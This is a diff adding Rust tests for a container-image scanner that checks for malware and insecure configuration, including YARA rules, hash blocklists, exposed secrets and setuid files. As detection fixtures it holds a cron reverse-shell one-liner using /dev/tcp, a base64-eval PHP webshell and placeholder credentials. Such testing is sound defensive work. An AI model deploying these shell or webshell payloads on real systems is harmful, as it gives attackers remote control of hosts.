@@ -1,0 +1,268 @@
+//! Malware and baseline checks: one test per check.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+mod common;
+
+use berth_scan::{ScanOptions, Severity};
+use common::*;
+
+fn ids(r: &berth_scan::Report) -> Vec<String> {
+    r.baseline.iter().map(|b| b.id.clone()).collect()
+}
+
+#[test]
+fn eicar_is_found_by_yara_and_the_blocklist() {
+    let img = Image::new(
+        vec![
+            Layer::new("ADD"),
+            Layer::new("COPY eicar").file("/tmp/eicar.com", &eicar()),
+        ],
+        Comp::Gzip,
+    );
+    let r = scan(&img);
+    let rules: Vec<&str> = r.malware.iter().map(|m| m.rule.as_str()).collect();
+    assert_eq!(rules, ["sha256-blocklist", "yara:berth.EICAR_Test_File"]);
+    for m in &r.malware {
+        assert_eq!(m.path, "/tmp/eicar.com");
+        assert_eq!(m.severity, Severity::Critical);
+        assert_eq!(m.layer.as_ref().unwrap().index, 1);
+        assert_eq!(
+            m.sha256,
+            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
+        );
+    }
+}
+
+#[test]
+fn deleted_malware_is_not_reported() {
+    let img = Image::new(
+        vec![
+            Layer::new("COPY").file("/tmp/eicar.com", &eicar()),
+            Layer::new("RUN rm").whiteout("/tmp/eicar.com"),
+        ],
+        Comp::Gzip,
+    );
+    assert!(scan(&img).malware.is_empty());
+}
+
+#[test]
+fn user_rules_and_blocklists() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("custom.yar"), "rule Custom_Marker { meta: severity = \"Medium\" description = \"marker\" strings: $a = \"BERTH-TEST-MARKER\" condition: $a }").unwrap();
+    let bad = b"definitely malicious payload";
+    std::fs::write(
+        dir.path().join("blocklist.txt"),
+        format!("# comment\n{} known dropper\n", &sha256(bad)[7..]),
+    )
+    .unwrap();
+    let img = Image::new(
+        vec![
+            Layer::new("COPY")
+                .file("/app/a.txt", b"xx BERTH-TEST-MARKER xx")
+                .file("/app/b.bin", bad),
+        ],
+        Comp::Gzip,
+    );
+    let opts = ScanOptions {
+        yara_rule_dirs: vec![dir.path().to_path_buf()],
+        blocklists: vec![dir.path().join("blocklist.txt")],
+        ..options()
+    };
+    let r = try_scan(&img, opts).unwrap();
+    let found: Vec<(String, String, Severity)> = r
+        .malware
+        .iter()
+        .map(|m| (m.path.clone(), m.rule.clone(), m.severity))
+        .collect();
+    assert!(
+        found.contains(&(
+            "/app/a.txt".into(),
+            "yara:custom.Custom_Marker".into(),
+            Severity::Medium
+        )),
+        "{found:?}"
+    );
+    assert!(
+        found.contains(&(
+            "/app/b.bin".into(),
+            "sha256-blocklist".into(),
+            Severity::Critical
+        )),
+        "{found:?}"
+    );
+    assert_eq!(
+        r.malware
+            .iter()
+            .find(|m| m.path == "/app/b.bin")
+            .unwrap()
+            .description,
+        "known dropper"
+    );
+    // A rule that does not compile is a clear error.
+    std::fs::write(dir.path().join("broken.yar"), "rule {").unwrap();
+    let opts = ScanOptions {
+        yara_rule_dirs: vec![dir.path().to_path_buf()],
+        ..options()
+    };
+    assert!(
+        berth_scan::Scanner::new(opts)
+            .err()
+            .unwrap()
+            .to_string()
+            .contains("broken.yar")
+    );
+}
+
+#[test]
+fn reverse_shell_and_webshell_rules() {
+    let img = Image::new(
+        vec![
+            Layer::new("COPY")
+                .file(
+                    "/etc/cron.d/x",
+                    b"* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
+                )
+                .file(
+                    "/var/www/s.php",
+                    b"<?php eval(base64_decode($_POST['x'])); ?>",
+                ),
+        ],
+        Comp::Gzip,
+    );
+    let rules: Vec<String> = scan(&img).malware.iter().map(|m| m.rule.clone()).collect();
+    assert!(
+        rules.contains(&"yara:berth.Reverse_Shell_Oneliner".to_string()),
+        "{rules:?}"
+    );
+    assert!(
+        rules.contains(&"yara:berth.PHP_Webshell_Eval".to_string()),
+        "{rules:?}"
+    );
+}
+
+#[test]
+fn config_checks_root_healthcheck_secrets_ports_add_url() {
+    let img = Image::new(vec![Layer::new("ADD rootfs"), Layer::new("ADD https://example.com/tool.tgz /opt/ # buildkit")], Comp::Gzip).with_config(|c| {
+        c["config"] = serde_json::json!({
+            "User": "0:0",
+            "Env": ["PATH=/usr/bin", "DB_PASSWORD=hunter2hunter2", "PASSWORD_FILE=/run/secrets/pw", "AWS_KEY=AKIAIOSFODNN7EXAMPLE"],
+            "ExposedPorts": {"22/tcp": {}, "80/tcp": {}, "23/tcp": {}},
+            "Labels": {"ci.token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789"},
+        });
+    });
+    let r = scan(&img);
+    let ids = ids(&r);
+    for id in [
+        "BERTH-CFG-002",
+        "BERTH-CFG-003",
+        "BERTH-CFG-004",
+        "BERTH-CFG-005",
+        "BERTH-CFG-006",
+        "BERTH-CFG-007",
+    ] {
+        assert!(ids.contains(&id.to_string()), "{id} missing from {ids:?}");
+    }
+    assert!(!ids.contains(&"BERTH-CFG-001".to_string()));
+    assert_eq!(
+        r.baseline
+            .iter()
+            .filter(|b| b.id == "BERTH-CFG-004")
+            .count(),
+        2
+    );
+    assert_eq!(
+        r.baseline
+            .iter()
+            .filter(|b| b.id == "BERTH-CFG-006")
+            .count(),
+        2
+    );
+    let secret = r.baseline.iter().find(|b| b.id == "BERTH-CFG-004").unwrap();
+    assert!(
+        !secret.detail.contains("hunter2hunter2"),
+        "secrets are redacted: {}",
+        secret.detail
+    );
+    let add = r.baseline.iter().find(|b| b.id == "BERTH-CFG-007").unwrap();
+    assert_eq!(add.layer.as_ref().unwrap().index, 1);
+    assert!(!add.remediation.is_empty());
+    // No USER at all.
+    let r = scan(
+        &Image::new(vec![Layer::new("x")], Comp::None)
+            .with_config(|c| c["config"] = serde_json::json!({})),
+    );
+    assert!(super_ids(&r).contains(&"BERTH-CFG-001".to_string()));
+}
+
+fn super_ids(r: &berth_scan::Report) -> Vec<String> {
+    ids(r)
+}
+
+#[test]
+fn filesystem_checks() {
+    let img = Image::new(
+        vec![
+            Layer::new("ADD rootfs")
+                .file("/etc/shadow", b"root:*:19000:0:99999:7:::\nguest::19000:0:99999:7:::\nlocked:!:19000::::::\n")
+                .file_mode("/usr/bin/passwd", b"ELF", 0o4755)
+                .file_mode("/usr/local/bin/backdoor", b"ELF", 0o4755)
+                .file_mode("/usr/lib/libx.so", b"x", 0o666)
+                .file_mode("/home/app/notes.txt", b"x", 0o666)
+                .dir("/usr/share/dropbox", 0o777)
+                .dir("/tmp", 0o1777),
+            Layer::new("RUN apt-get update && apt-get install -y curl")
+                .file("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", b"lists")
+                .file("/var/lib/apt/lists/lock", b"")
+                .file("/root/.ssh/id_ed25519", b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n")
+                .file("/root/.aws/credentials", b"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
+                .file("/root/.docker/config.json", br#"{"auths":{"registry.example":{"auth":"dXNlcjpwYXNz"}}}"#)
+                .file("/home/app/.docker/config.json", br#"{"credsStore":"desktop"}"#),
+        ],
+        Comp::Gzip,
+    );
+    let r = scan(&img);
+    let find = |id: &str| {
+        r.baseline
+            .iter()
+            .filter(|b| b.id == id)
+            .map(|b| b.path.clone().unwrap_or_default())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(find("BERTH-FS-001"), ["/root/.ssh/id_ed25519"]);
+    assert_eq!(
+        find("BERTH-FS-002"),
+        ["/root/.aws/credentials", "/root/.docker/config.json"]
+    );
+    assert_eq!(find("BERTH-FS-003"), ["/etc/shadow"]);
+    assert!(
+        r.baseline
+            .iter()
+            .any(|b| b.id == "BERTH-FS-003" && b.detail.contains("guest"))
+    );
+    assert_eq!(find("BERTH-FS-004"), ["/usr/local/bin/backdoor"]);
+    assert_eq!(
+        find("BERTH-FS-005"),
+        ["/usr/lib/libx.so", "/usr/share/dropbox"]
+    );
+    assert_eq!(find("BERTH-FS-006"), ["/var/lib/apt/lists"]);
+    let key = r.baseline.iter().find(|b| b.id == "BERTH-FS-001").unwrap();
+    assert_eq!(key.layer.as_ref().unwrap().index, 1);
+    assert_eq!(key.severity, Severity::High);
+}
+
+#[test]
+fn checks_can_be_turned_off() {
+    let img = Image::new(
+        vec![Layer::new("COPY").file("/tmp/eicar.com", &eicar())],
+        Comp::Gzip,
+    );
+    let r = try_scan(
+        &img,
+        ScanOptions {
+            malware: false,
+            baseline: false,
+            ..options()
+        },
+    )
+    .unwrap();
+    assert!(r.malware.is_empty() && r.baseline.is_empty());
+}
